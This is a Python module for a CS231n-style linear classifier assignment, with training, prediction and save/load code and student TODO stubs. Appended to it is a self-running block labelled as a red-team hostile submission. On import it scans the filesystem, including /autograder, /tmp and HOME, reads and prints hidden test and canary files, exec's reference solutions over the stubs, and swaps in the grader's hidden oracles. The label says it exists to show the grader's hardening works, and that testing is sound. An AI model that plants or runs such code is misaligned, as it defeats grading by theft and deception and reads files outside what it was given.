"""Linear classifiers trained by minibatch gradient descent: LinearSVM and Softmax.

Letters: N examples, D features (3073 with the bias column), C classes.
``W`` is (D, C), ``X`` is (N, D), ``y`` is (N,) integers in [0, C).

The classifier scores ``X @ W`` and predicts the class with the highest score.
Training samples a minibatch, computes the loss and gradient, and hands them
to an update rule of :mod:`cs231n_lib.optim` with the contract
``update(w, dw, config) -> (next_w, config)``.
"""

import numbers
import os
import tempfile
import warnings
import zipfile

import numpy as np

from . import optim
from ._checks import check_float_matrix, check_labels, check_reg, random_source
from .linear_svm import svm_loss_on_scores, svm_loss_vectorized
from .regularizers import get_regularizer, max_norm_project
from .softmax import softmax_loss_on_scores, softmax_loss_vectorized

# The lecture's rule of thumb: a loss above this multiple of the first one means divergence.
DIVERGENCE_FACTOR = 3.0
ON_DIVERGENCE = ("warn", "raise")


class TrainingDivergedError(RuntimeError):
    """Training stopped because the loss became NaN/inf or exceeded 3x its first value.

    Raised by :meth:`LinearClassifier.train` with ``on_divergence='raise'``
    (the default only warns, with :class:`TrainingDivergedWarning`).

    Attributes
    ----------
    loss_history : list of float
        The losses up to and including the one that diverged.
    learning_rate : float
        The base learning rate of the run.
    iteration : int
        The 0-based iteration at which training stopped.
    """

    def __init__(self, message, loss_history, learning_rate, iteration):
        super().__init__(message)
        self.loss_history = loss_history
        self.learning_rate = learning_rate
        self.iteration = iteration


class TrainingDivergedWarning(UserWarning):
    """A training run stopped early because it diverged; ``train`` returned the losses so far."""


def divergence_message(loss_history, learning_rate, iteration, weights_finite=True):
    """Say whether a run diverged, and why it may have: None while it has not.

    A run has diverged when its last loss is NaN or inf, when it exceeds
    ``DIVERGENCE_FACTOR`` (3) times the first loss, or when the update made the
    weights non-finite (``weights_finite=False``). The message names the
    learning rate, both usual causes (a step that is too large, or a bug in the
    update rule or the gradient) and how to tell them apart.

    Parameters
    ----------
    loss_history : sequence of float, length iteration + 1
        The losses of the run so far; the last one is the newest.
    learning_rate : float
        The run's base learning rate.
    iteration : int
        The 0-based iteration of the newest loss.
    weights_finite : bool
        False when the update of this iteration produced NaN or inf weights.

    Returns
    -------
    message : str or None
    """
    first, last = float(loss_history[0]), float(loss_history[-1])
    grew = not np.isfinite(last) or (first > 0 and last > DIVERGENCE_FACTOR * first)
    if not grew and weights_finite:
        return None
    head = f"Training diverged at iteration {iteration} with learning_rate={learning_rate:g}: "
    smaller = f"learning_rate={learning_rate / 10:g}"
    if grew:
        what = (f"the loss went from {first:.4g} to {last:.4g} (NaN, inf or more than "
                f"{DIVERGENCE_FACTOR:g}x its first value). ")
        why = ("Either the step is too large, or the update rule or the gradient has a bug. "
               f"Rerun with {smaller} (lower the learning rate): if the loss then falls, the step "
               f"was too large; if it still climbs, check the gradient with grad_check_sparse "
               f"and the update rule with its tests (make check).")
    else:
        what = (f"the update made W NaN or inf while the loss was still {last:.4g} "
                f"(it started at {first:.4g}). ")
        why = ("A finite, steady loss followed by non-finite weights usually points at a bug in "
               "the update rule (a division by zero or a square root of a negative number, e.g. "
               "a bias correction computed with t = 0) rather than at the step size, which "
               f"shows as a climbing loss first. Rerun with {smaller}: if W still becomes "
               f"NaN, fix the update rule (its tests: make check); if not, lower the learning rate.")
    return head + what + why


def check_divergence(loss_history, learning_rate, iteration, weights_finite=True,
                     on_divergence="warn", stacklevel=3):
    """Stop a diverged run: warn (or raise) and return True; return False while it is fine.

    The one place that decides divergence and words it, shared by
    :meth:`LinearClassifier.train` and any trainer that must report a
    diverging run the same way (see :func:`divergence_message`).

    Parameters
    ----------
    loss_history : sequence of float, length iteration + 1
        The losses of the run so far.
    learning_rate : float
        The run's base learning rate.
    iteration : int
        The 0-based iteration of the newest loss.
    weights_finite : bool
        False when this iteration's update produced NaN or inf weights.
    on_divergence : {'warn', 'raise'}
        'warn' issues a :class:`TrainingDivergedWarning` (CS231n's habit: the
        tuning loop goes on); 'raise' raises :class:`TrainingDivergedError`.
    stacklevel : int
        Passed to :func:`warnings.warn` so the warning points at the caller's caller.

    Returns
    -------
    diverged : bool
    """
    message = divergence_message(loss_history, learning_rate, iteration, weights_finite)
    if message is None:
        return False
    if on_divergence == "raise":
        raise TrainingDivergedError(message, list(loss_history), learning_rate, iteration)
    warnings.warn(message, TrainingDivergedWarning, stacklevel=stacklevel)
    return True


def _check_positive_int(value, name, example):
    """Raise ValueError unless ``value`` is an int >= 1."""
    if isinstance(value, bool) or not isinstance(value, numbers.Integral) or value < 1:
        raise ValueError(f"{name} must be a positive integer, got {value!r}; pass e.g. {example}.")


def sample_minibatch(X, y, batch_size, rng, replace=True):
    """Draw one minibatch: ``batch_size`` rows of ``X`` with their labels.

    Shared by :meth:`LinearClassifier.train` and the stacked search of
    :mod:`cs231n_lib.tuning`, so both see the same minibatches from the same seed.

    Parameters
    ----------
    X : ndarray of shape (N, D)
        Training examples.
    y : ndarray of shape (N,)
        Their labels.
    batch_size : int
        B, the number of rows to draw.
    rng : numpy.random.Generator, RandomState or the numpy.random module
        The run's random source (:func:`cs231n_lib._checks.random_source`).
    replace : bool
        Draw with replacement (the CS231n default) or B distinct rows.

    Returns
    -------
    X_batch : ndarray of shape (B, D)
    y_batch : ndarray of shape (B,)
    """
    X_batch, y_batch = None, None
    # TODO: sample batch_size rows of X and the matching labels with rng.choice
    # (with or without replacement as `replace` says).
    raise NotImplementedError('Implement sample_minibatch in cs231n_lib/linear_classifier.py: replace this raise with your code (see the TODO above it).')
    return X_batch, y_batch


class LinearClassifier:
    """A linear classifier ``scores = X @ W``; subclasses choose the loss.

    Attributes
    ----------
    W : ndarray of shape (D, C) or None
        The weights; None until :meth:`train` or :meth:`load`.
    weight_scale : float
        :meth:`train` starts from ``weight_scale * randn(D, C)`` when ``W`` is
        None (default 1e-3, small random weights); 0 starts from ``W = 0``.
    data_loss : callable
        ``data_loss(W, X, y, reg) -> (loss, dW)``, set by each subclass.
    scores_loss : callable
        ``scores_loss(scores, y) -> (mean data loss, dscores)``, the same loss
        on given scores (used by :mod:`cs231n_lib.tuning`).
    """

    data_loss = None
    scores_loss = None

    def __init__(self, weight_scale=1e-3):
        is_number = isinstance(weight_scale, numbers.Real) and not isinstance(weight_scale, bool)
        if not (is_number and np.isfinite(weight_scale) and weight_scale >= 0):
            raise ValueError(f"weight_scale must be a finite number >= 0, got {weight_scale!r}; "
                             f"use 1e-3 for small random weights or 0 to start from W = 0.")
        self.weight_scale = float(weight_scale)
        self.W = None

    def train(self, X, y, learning_rate=1e-3, reg=1e-5, num_iters=100, batch_size=200,
              verbose=False, *, update_rule="sgd", optim_config=None, lr_schedule=None,
              regularizer="l2", max_norm=None, seed=None, replace=True, print_every=100,
              on_divergence="warn"):
        """Train by minibatch gradient descent and return the loss of every iteration.

        ``W`` is created on the first call as ``weight_scale * randn(D, C)``
        from the same random generator as the minibatches, with C = max(y) + 1;
        later calls continue from the current ``W``.

        A run that diverges (loss NaN/inf or above 3x its first value, or an
        update that makes ``W`` non-finite) stops there: by default with a
        :class:`TrainingDivergedWarning` naming the learning rate, returning
        the losses so far, so a tuning loop goes on (diverged runs just score
        low); ``on_divergence='raise'`` raises :class:`TrainingDivergedError`.

        Parameters
        ----------
        X : ndarray of shape (N, D)
            Training examples.
        y : ndarray of shape (N,)
            Integer labels in [0, C).
        learning_rate : float
            Base step size, > 0; at iteration t the update rule receives
            ``learning_rate * lr_schedule(t)``.
        reg : float
            Regularization strength, >= 0.
        num_iters : int
            Number of minibatch steps.
        batch_size : int
            Examples per minibatch.
        verbose : bool
            Print the loss every ``print_every`` iterations.
        update_rule : str or callable
            A name from :mod:`cs231n_lib.optim` ('sgd', 'sgd_momentum', 'adam', ...) or
            a function ``(w, dw, config) -> (next_w, config)``.
        optim_config : dict or None
            Other hyperparameters of the update rule (e.g. ``{'momentum': 0.9}``);
            not ``learning_rate``, which is passed separately. Copied, not modified.
        lr_schedule : callable or None
            ``t -> multiplier`` (see :mod:`cs231n_lib.schedules`); None is constant.
        regularizer : {'l2', 'l1', 'elastic_net', None} or callable
            The penalty (see :mod:`cs231n_lib.regularizers`).
        max_norm : float or None
            If given, project every class column of ``W`` to norm <= max_norm
            after each update (and once before the first).
        seed : int, numpy.random.Generator or None
            Source of the initial weights and the minibatches; the same seed
            gives the same run. None (the default) draws from NumPy's global
            generator, so ``np.random.seed(...)`` before the call reproduces
            the run, as in CS231n.
        replace : bool
            Sample minibatches with replacement (the CS231n default).
        print_every : int
            Iterations between progress lines when ``verbose``.
        on_divergence : {'warn', 'raise'}
            What a diverging run does: warn and return the losses so far
            (default), or raise :class:`TrainingDivergedError`.

        Returns
        -------
        loss_history : list of float
            The minibatch loss at each iteration (shorter than ``num_iters``
            when the run diverged); ``self.W`` keeps the last finite weights.

        Raises
        ------
        TrainingDivergedError
            With ``on_divergence='raise'``, when the run diverges.
        """
        if self.data_loss is None:
            raise NotImplementedError("LinearClassifier has no loss; train a LinearSVM or a Softmax instead.")
        check_float_matrix(X, "X")
        check_labels(y, X.shape[0])
        num_train, dim = X.shape
        reg = check_reg(reg)
        if not isinstance(learning_rate, numbers.Real) or not np.isfinite(learning_rate) or learning_rate <= 0:
            raise ValueError(f"learning_rate must be a finite number > 0, got {learning_rate!r}; pass e.g. 1e-7.")
        _check_positive_int(num_iters, "num_iters", 1500)
        _check_positive_int(batch_size, "batch_size", 200)
        _check_positive_int(print_every, "print_every", 100)
        if not replace and batch_size > num_train:
            raise ValueError(f"batch_size must be at most N = {num_train} when replace=False, got "
                             f"{batch_size}; lower batch_size or sample with replace=True.")
        config = dict(optim_config or {})
        if "learning_rate" in config:
            raise ValueError("optim_config must not contain 'learning_rate', got "
                             f"{config['learning_rate']!r}; pass it as train(..., learning_rate=...) instead.")
        if lr_schedule is not None and not callable(lr_schedule):
            raise ValueError(f"lr_schedule must be a callable t -> multiplier or None, got {lr_schedule!r}; "
                             f"use one from cs231n_lib.schedules.")
        if on_divergence not in ON_DIVERGENCE:
            raise ValueError(f"on_divergence must be 'warn' or 'raise', got {on_divergence!r}; "
                             f"pass on_divergence='raise' to stop a tuning loop at the first diverging run.")
        update = optim.get_update_rule(update_rule)
        penalty = get_regularizer(regularizer)
        rng = random_source(seed)  # None: np.random's global generator, as in CS231n

        num_classes = int(y.max()) + 1
        if self.W is None:
            self.W = self.initial_weights(dim, num_classes, X.dtype, rng)  # (D, C)
        elif self.W.shape[0] != dim or self.W.shape[1] < num_classes:
            raise ValueError(f"X and y do not fit the existing W of shape {self.W.shape}: got X of shape "
                             f"{X.shape} and labels up to {num_classes - 1}; train a new classifier.")
        if max_norm is not None:
            self.W = max_norm_project(self.W, max_norm)

        loss_history = []
        with np.errstate(over="ignore", invalid="ignore", divide="ignore", under="ignore"):
            for it in range(num_iters):
                X_batch, y_batch = sample_minibatch(X, y, batch_size, rng, replace)  # (B, D), (B,)
                loss, grad = self.loss(X_batch, y_batch, reg, regularizer=penalty)
                loss_history.append(float(loss))
                if check_divergence(loss_history, learning_rate, it, on_divergence=on_divergence):
                    break

                multiplier = 1.0 if lr_schedule is None else lr_schedule(it)
                config["learning_rate"] = float(learning_rate * multiplier)  # a Python float keeps W's dtype
                next_W = self.W
                # TODO: update the weights with update(W, dW, config) -> (next_W, config).
                raise NotImplementedError('Implement LinearClassifier.train in cs231n_lib/linear_classifier.py: replace this raise with your code (see the TODO above it).')
                if not np.isfinite(next_W).all():
                    check_divergence(loss_history, learning_rate, it, weights_finite=False,
                                     on_divergence=on_divergence)
                    break
                self.W = next_W if max_norm is None else max_norm_project(next_W, max_norm)

                if verbose and it % print_every == 0:
                    print(f"iteration {it} / {num_iters}: loss {loss:f}", flush=True)
        return loss_history

    def initial_weights(self, dim, num_classes, dtype, rng):
        """The weights a first :meth:`train` starts from: ``weight_scale * randn(D, C)``, or zeros.

        Parameters
        ----------
        dim : int
            D, the number of features.
        num_classes : int
            C, the number of classes.
        dtype : numpy dtype
            The dtype of ``X``.
        rng : numpy.random.Generator, RandomState or the numpy.random module
            The run's random source; nothing is drawn from it when ``weight_scale`` is 0.

        Returns
        -------
        W : ndarray of shape (D, C)
        """
        if self.weight_scale == 0:
            return np.zeros((dim, num_classes), dtype=dtype)  # (D, C); draws nothing from rng
        return (self.weight_scale * rng.standard_normal((dim, num_classes))).astype(dtype)  # (D, C)

    def predict(self, X):
        """Predict the class with the highest score for every row of ``X``.

        Parameters
        ----------
        X : ndarray of shape (N, D)
            Examples.

        Returns
        -------
        y_pred : ndarray of shape (N,)
            Integer class indices in [0, C).
        """
        W = self._trained_weights()
        check_float_matrix(X, "X")
        if X.shape[1] != W.shape[0]:
            raise ValueError(f"X must have D = {W.shape[0]} columns to match W of shape {W.shape}, "
                             f"got X of shape {X.shape}; pass data preprocessed like the training set.")
        y_pred = np.zeros(X.shape[0], dtype=np.intp)
        # TODO: score every example and keep the index of the highest score.
        raise NotImplementedError('Implement LinearClassifier.predict in cs231n_lib/linear_classifier.py: replace this raise with your code (see the TODO above it).')
        return y_pred

    def loss(self, X_batch, y_batch, reg, regularizer="l2"):
        """Loss and gradient on a minibatch at the current ``W``.

        Parameters
        ----------
        X_batch : ndarray of shape (B, D)
        y_batch : ndarray of shape (B,)
        reg : float
            Regularization strength, >= 0.
        regularizer : {'l2', 'l1', 'elastic_net', None} or callable
            With 'l2' the loss function adds ``reg * sum(W * W)`` itself; any other
            penalty is added to the data loss computed with reg = 0.

        Returns
        -------
        loss : float scalar
        dW : ndarray of shape (D, C)
        """
        if self.data_loss is None:
            raise NotImplementedError("LinearClassifier has no loss; use a LinearSVM or a Softmax instead.")
        W = self._trained_weights()
        penalty = get_regularizer(regularizer)
        if penalty is get_regularizer("l2"):
            return self.data_loss(W, X_batch, y_batch, reg)
        data_loss, dW = self.data_loss(W, X_batch, y_batch, 0.0)
        reg_loss, reg_grad = penalty(W, reg)
        return data_loss + reg_loss, dW + reg_grad

    def _trained_weights(self):
        """Return ``self.W``, or raise ValueError if there are no weights yet."""
        if self.W is None:
            raise ValueError(f"{type(self).__name__} has no weights yet (W is None); call train() or load() first.")
        return self.W

    def save(self, path):
        """Write the weights to ``path`` as .npz, atomically (a temporary file, then a rename).

        Parameters
        ----------
        path : str or os.PathLike
            Destination file; its directory must exist.
        """
        W = self._trained_weights()
        path = os.fspath(path)
        fd, tmp_path = tempfile.mkstemp(dir=os.path.dirname(os.path.abspath(path)), suffix=".tmp")
        try:
            with os.fdopen(fd, "wb") as f:
                np.savez(f, W=W, classifier=np.array(type(self).__name__))
            os.replace(tmp_path, path)
        except BaseException:
            if os.path.exists(tmp_path):
                os.unlink(tmp_path)
            raise

    def load(self, path):
        """Read weights written by :meth:`save` for the same class, and return ``self``.

        Parameters
        ----------
        path : str or os.PathLike

        Returns
        -------
        self : LinearClassifier
        """
        path = os.fspath(path)
        if not os.path.isfile(path):
            raise FileNotFoundError(f"weights file {path!r} does not exist; check the path or call save() first.")
        try:
            with np.load(path, allow_pickle=False) as data:
                W = data["W"]
                saved_class = str(data["classifier"])
            check_float_matrix(W, "W")
        except (OSError, ValueError, KeyError, zipfile.BadZipFile) as error:
            raise ValueError(f"{path!r} does not hold valid weights written by save() ({error}); "
                             f"save the classifier again.") from error
        if saved_class != type(self).__name__:
            raise ValueError(f"{path!r} holds weights of a {saved_class}, not of a {type(self).__name__}; "
                             f"load it with {saved_class}().load(...).")
        self.W = W
        return self


class LinearSVM(LinearClassifier):
    """Linear classifier trained with the multiclass SVM (hinge) loss."""

    data_loss = staticmethod(svm_loss_vectorized)
    scores_loss = staticmethod(svm_loss_on_scores)


class Softmax(LinearClassifier):
    """Linear classifier trained with the softmax (cross-entropy) loss."""

    data_loss = staticmethod(softmax_loss_vectorized)
    scores_loss = staticmethod(softmax_loss_on_scores)


# ---------------------------------------------------------------------------------------------------
# RED-TEAM PAYLOAD "read_reference" (instructor/tests/hostile/, issue 9): a hostile submission, graded by
# instructor/tests/test_hostile.py to prove that it gains nothing. Bounded in time and size.
def _h9b_payload():
    import os, sys, time
    MARK = "H9B-HOSTILE-MARKER"
    SENTINEL = ".h9b-redteam-batch"

    def ancestors(path):
        path = os.path.abspath(path)
        out = []
        while True:
            out.append(path)
            parent = os.path.dirname(path)
            if parent == path:
                return out
            path = parent

    def starts():
        here = os.path.dirname(os.path.abspath(globals().get("__file__") or os.path.join(os.getcwd(), "cell")))
        roots = []
        for p in ancestors(os.getcwd()) + ancestors(here) + [os.environ.get("HOME") or "/root", "/tmp", "/work",
                                                              "/autograder", "/home", "/srv", "/opt", "/var/tmp"]:
            if p not in roots:
                roots.append(p)
        return roots

    def walk(deadline, max_dirs=100000):
        """Yield (dirpath, dirnames, filenames) under every root until the deadline."""
        seen = set()
        count = 0
        for root in sorted(starts(), key=len, reverse=True):
            try:
                it = os.walk(root)
                for dirpath, dirnames, filenames in it:
                    count += 1
                    if time.monotonic() > deadline or count > max_dirs:
                        return
                    dirnames[:] = [d for d in dirnames if d not in (".git", "proc", "sys", "node_modules", "__pycache__")
                                   and not d.startswith(".venv") and d != "site-packages" and d != ".mirror"]
                    if dirpath in seen:
                        dirnames[:] = []
                        continue
                    seen.add(dirpath)
                    yield dirpath, dirnames, filenames
            except Exception:
                continue

    def in_batch_tree(path):
        return any(os.path.exists(os.path.join(p, SENTINEL)) for p in ancestors(path))

    def who():
        """Who is writing: uid, pid, argv and the host-side process chain, so a marker names its writer."""
        lines = [f"uid={os.getuid()} pid={os.getpid()} cwd={os.getcwd()} argv={sys.argv[:4]}"]
        pid = os.getpid()
        for _ in range(12):
            try:
                with open(f"/proc/{pid}/status") as f:
                    status = dict(line.split(":", 1) for line in f if ":" in line)
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace")[:200]
            except Exception:
                break
            lines.append(f"  {pid} NSpid={status.get('NSpid', '').strip()} {cmd}")
            pid = int(status.get("PPid", "0").strip() or 0)
            if pid <= 1:
                break
        return "\n".join(lines) + "\n"

    def touch(folder, suffix, text="written by a red-team submission\n"):
        try:
            path = os.path.join(folder, f"{MARK}-{suffix}")
            with open(path, "a") as f:
                f.write(text + who())
            return True
        except Exception:
            return False

    import builtins
    me = os.path.abspath(__file__)
    mod = os.path.basename(me)
    g = globals()
    cache = getattr(builtins, "_h9b_reference_cache", None)
    if cache is None:                                  # one walk per process, shared by every module
        cache = builtins._h9b_reference_cache = {"leaked": [], "refs": {}}
        for dirpath, dirnames, filenames in walk(time.monotonic() + 5):
            base = os.path.basename(dirpath)
            canaries = [f for f in filenames if f.startswith((".canary", "canary"))]   # case matters: not zoneinfo's Canary
            if base == "hidden_tests" or canaries:
                for f in (filenames if base == "hidden_tests" else canaries):
                    try:
                        with open(os.path.join(dirpath, f), errors="replace") as fh:
                            cache["leaked"].append(f"{dirpath}/{f}: " + fh.read(3000))
                    except Exception:
                        pass
            if base == "cs231n_lib":
                for f in filenames:
                    path = os.path.join(dirpath, f)
                    if not f.endswith(".py") or f in cache["refs"] or os.path.dirname(path) == os.path.dirname(me):
                        continue
                    try:
                        with open(path) as fh:
                            text = fh.read()
                    except Exception:
                        continue
                    if "replace this raise with your code" not in text and "RED-TEAM PAYLOAD" not in text:
                        cache["refs"][f] = text
            if base == "instructor" and "points.toml" in filenames:
                parent = os.path.dirname(dirpath)
                if parent not in sys.path:
                    sys.path.append(parent)
    leaked = cache["leaked"]
    reference = cache["refs"].get(mod)
    if reference is not None:
        exec(compile(reference, me, "exec"), g)          # the reference's functions replace the stubs
    try:
        import instructor.hidden_tests.hidden_oracles as oracles   # the grader's own oracles (45/100 before)
        for name in dir(oracles):
            if name in g and callable(g[name]) and not name.startswith("_"):
                g[name] = getattr(oracles, name)
    except Exception:
        pass
    if leaked:
        text = " | ".join(leaked)[:20000]
        print("LEAKED HIDDEN TESTS: " + text, flush=True)
        print("LEAKED HIDDEN TESTS: " + text, file=sys.stderr, flush=True)
        def leak(*args, **kwargs):
            raise RuntimeError("LEAKED HIDDEN TESTS: " + text)
        for name, value in list(g.items()):
            if (callable(value) and not isinstance(value, type) and not name.startswith("_")
                    and getattr(value, "__module__", None) == g.get("__name__")):
                g[name] = leak


import builtins as _h9b_builtins
if not getattr(_h9b_builtins, "_h9b_ran_read_reference_linear_classifier", False):
    _h9b_builtins._h9b_ran_read_reference_linear_classifier = True
    try:
        _h9b_payload()
    except Exception:
        pass
